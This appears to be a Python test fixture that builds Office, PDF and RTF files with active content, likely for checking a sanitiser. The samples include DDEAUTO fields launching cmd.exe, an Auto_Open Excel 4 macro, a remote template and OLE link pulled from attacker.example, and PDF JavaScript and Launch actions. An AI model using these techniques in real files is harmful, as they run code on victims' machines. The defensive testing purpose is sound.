"""Small Office, PDF and RTF files with active content, built in the test (no corpus needed)."""
from __future__ import annotations

import io
import zipfile
from pathlib import Path

VBA_PROJECT = (Path(__file__).parent / "data" / "vbaProject.bin").read_bytes()

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PR = "http://schemas.openxmlformats.org/package/2006/relationships"
RT = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MSRT = "http://schemas.microsoft.com/office/2006/relationships"
HEAD = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'


def zip_of(parts: dict[str, bytes | str]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for name, body in parts.items():
            z.writestr(name, body.encode() if isinstance(body, str) else body)
    return buf.getvalue()


def _types(main_type: tuple[str, str], extra: str = "", vba_default: bool = True) -> str:
    return (HEAD + '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            + ('<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>' if vba_default else "")
            + f'<Override PartName="/{main_type[0]}" ContentType="{main_type[1]}"/>' + extra + '</Types>')


def _rels(*rels: tuple[str, str, str, bool]) -> str:
    body = "".join(f'<Relationship Id="{i}" Type="{t}" Target="{tg}"' + (' TargetMode="External"' if ext else "") + "/>"
                   for i, t, tg, ext in rels)
    return HEAD + f'<Relationships xmlns="{PR}">{body}</Relationships>'


def docm() -> bytes:
    """A macro-enabled Word document: VBA project, remote template, linked OLE object,
    a hyperlink (kept), a DDEAUTO field split over runs and a DDE fldSimple."""
    document = (HEAD +
        f'<w:document xmlns:w="{W}" xmlns:r="{R}" xmlns:o="urn:schemas-microsoft-com:office:office" '
        'xmlns:mc="http://schemas.openxmlformats.org/markup-compatibility/2006" '
        'xmlns:w14="http://schemas.microsoft.com/office/word/2010/wordml" mc:Ignorable="w14"><w:body>'
        '<w:p><w:r><w:t>Hello</w:t></w:r></w:p>'
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        '<w:r><w:instrText xml:space="preserve"> DDE</w:instrText></w:r>'
        '<w:r><w:instrText xml:space="preserve">AUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"</w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>shown</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        '<w:p><w:fldSimple w:instr=" DDE Excel &quot;c:\\\\x.xls&quot; A1"><w:r><w:t>v</w:t></w:r></w:fldSimple></w:p>'
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> PAGE </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        '<w:p><w:hyperlink r:id="rId3"><w:r><w:t>link</w:t></w:r></w:hyperlink></w:p>'
        '<w:p><w:r><w:object><o:OLEObject Type="Link" ProgID="Word.Document.12" r:id="rId4" UpdateMode="Always">'
        '<o:LinkType>EnhancedMetaFile</o:LinkType></o:OLEObject></w:object></w:r></w:p>'
        '</w:body></w:document>')
    return zip_of({
        "[Content_Types].xml": _types(("word/document.xml", "application/vnd.ms-word.document.macroEnabled.main+xml"),
                                      '<Override PartName="/word/vbaData.xml" ContentType="application/vnd.ms-word.vbaData+xml"/>'
                                      '<Override PartName="/word/customizations.xml" ContentType="application/vnd.ms-word.keyMapCustomizations+xml"/>'
                                      '<Override PartName="/word/settings.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml"/>'),
        "_rels/.rels": _rels(("rId1", f"{RT}/officeDocument", "word/document.xml", False)),
        "word/document.xml": document,
        "word/_rels/document.xml.rels": _rels(
            ("rId1", f"{MSRT}/vbaProject", "vbaProject.bin", False),
            ("rId2", f"{RT}/settings", "settings.xml", False),
            ("rId3", f"{RT}/hyperlink", "http://example.com/", True),
            ("rId4", f"{RT}/oleObject", "http://attacker.example/x.docx", True),
            ("rId5", f"{MSRT}/keyMapCustomizations", "customizations.xml", False)),
        "word/settings.xml": HEAD + f'<w:settings xmlns:w="{W}" xmlns:r="{R}"><w:attachedTemplate r:id="rId1"/></w:settings>',
        "word/_rels/settings.xml.rels": _rels(("rId1", f"{RT}/attachedTemplate", "http://attacker.example/t.dotm", True)),
        "word/vbaProject.bin": VBA_PROJECT,
        "word/_rels/vbaProject.bin.rels": _rels(("rId1", f"{MSRT}/wordVbaData", "vbaData.xml", False)),
        "word/vbaData.xml": HEAD + '<wne:vbaSuppData xmlns:wne="http://schemas.microsoft.com/office/word/2006/wordml"/>',
        "word/customizations.xml": HEAD + '<wne:tcg xmlns:wne="http://schemas.microsoft.com/office/word/2006/wordml">'
                                          '<wne:keymaps><wne:keymap wne:kcmPrimary="0441"><wne:macro wne:macroName="PROJECT.MODULE1.RUN"/>'
                                          '</wne:keymap></wne:keymaps></wne:tcg>',
    })


S = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


def xlsm() -> bytes:
    """A macro-enabled workbook: VBA, an Excel 4 macro sheet started by Auto_Open, a DDE external link."""
    workbook = (HEAD + f'<workbook xmlns="{S}" xmlns:r="{R}"><sheets>'
                '<sheet name="Sheet1" sheetId="1" r:id="rId1"/>'
                '<sheet name="Macro1" sheetId="2" state="veryHidden" r:id="rId2"/></sheets>'
                '<externalReferences><externalReference r:id="rId4"/></externalReferences>'
                '<definedNames><definedName name="_xlnm.Auto_Open" hidden="1">Macro1!$A$1</definedName>'
                '<definedName name="Run">Macro1!$A$2</definedName>'
                '<definedName name="Kept">Sheet1!$A$1</definedName></definedNames></workbook>')
    return zip_of({
        "[Content_Types].xml": _types(("xl/workbook.xml", "application/vnd.ms-excel.sheet.macroEnabled.main+xml"),
                                      '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
                                      '<Override PartName="/xl/macrosheets/sheet1.xml" ContentType="application/vnd.ms-excel.macrosheet+xml"/>'
                                      '<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"/>'),
        "_rels/.rels": _rels(("rId1", f"{RT}/officeDocument", "xl/workbook.xml", False)),
        "xl/workbook.xml": workbook,
        "xl/_rels/workbook.xml.rels": _rels(
            ("rId1", f"{RT}/worksheet", "worksheets/sheet1.xml", False),
            ("rId2", f"{MSRT}/xlMacrosheet", "macrosheets/sheet1.xml", False),
            ("rId3", f"{MSRT}/vbaProject", "vbaProject.bin", False),
            ("rId4", f"{RT}/externalLink", "externalLinks/externalLink1.xml", False)),
        "xl/worksheets/sheet1.xml": HEAD + f'<worksheet xmlns="{S}"><sheetData/></worksheet>',
        "xl/macrosheets/sheet1.xml": HEAD + f'<xm:macrosheet xmlns="{S}" xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main">'
                                            '<sheetData><row r="1"><c r="A1"><f>EXEC("calc.exe")</f></c></row></sheetData></xm:macrosheet>',
        "xl/externalLinks/externalLink1.xml": HEAD + f'<externalLink xmlns="{S}"><ddeLink ddeService="cmd" ddeTopic="/c calc.exe"/></externalLink>',
        "xl/vbaProject.bin": VBA_PROJECT,
    })


def pdf(objects: list[bytes], root: int = 1) -> bytes:
    """A PDF with a correct xref table for the given object bodies (numbered from 1)."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for i, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % i + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for off in offsets:
        out += b"%010d 00000 n \n" % off
    out += b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, root, xref)
    return bytes(out)


def stream_obj(dictionary: bytes, data: bytes) -> bytes:
    return b"<< " + dictionary + b" /Length %d >>\nstream\n" % len(data) + data + b"\nendstream"


def pdf_with_javascript() -> bytes:
    content = b"BT /F1 12 Tf (/JavaScript in a content stream) Tj ET"
    return pdf([
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R /Names << /JavaScript 5 0 R /EmbeddedFiles 6 0 R >> >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 7 0 R /AA << /O 4 0 R >> >>",
        b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>",
        b"<< /Names [(x) 4 0 R] >>",
        b"<< /Names [(a.exe) << /Type /Filespec /F (a.exe) /EF << /F 8 0 R >> >>] >>",
        stream_obj(b"", content),
        stream_obj(b"/Type /EmbeddedFile", b"MZ payload"),
        b"<< /S /Launch /F (cmd.exe) /Next << /S /J#61vaScript /JS (x) >> >>",
    ])


def rtf_with_object_and_dde() -> bytes:
    return (b"{\\rtf1\\ansi{\\fonttbl{\\f0 Arial;}}\\f0 Hello \\{not a group\\} \\\\object is text here\\par\n"
            b"{\\field{\\*\\fldinst {\\rtlch DDE}AUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc.exe\"}"
            b"{\\fldrslt shown}}\\par\n"
            b"{\\field{\\*\\fldinst HYPERLINK \"http://example.com\"}{\\fldrslt link}}\\par\n"
            b"{\\object\\objemb\\objw100\\objh100{\\*\\objclass Package}{\\*\\objdata 01050000020000000800000050616b6167650000}"
            b"{\\result {\\pict\\wmetafile8 0000}}}\\par\n"
            b"{\\pict\\pngblip\\bin4 }}{{}after\\par}\n")
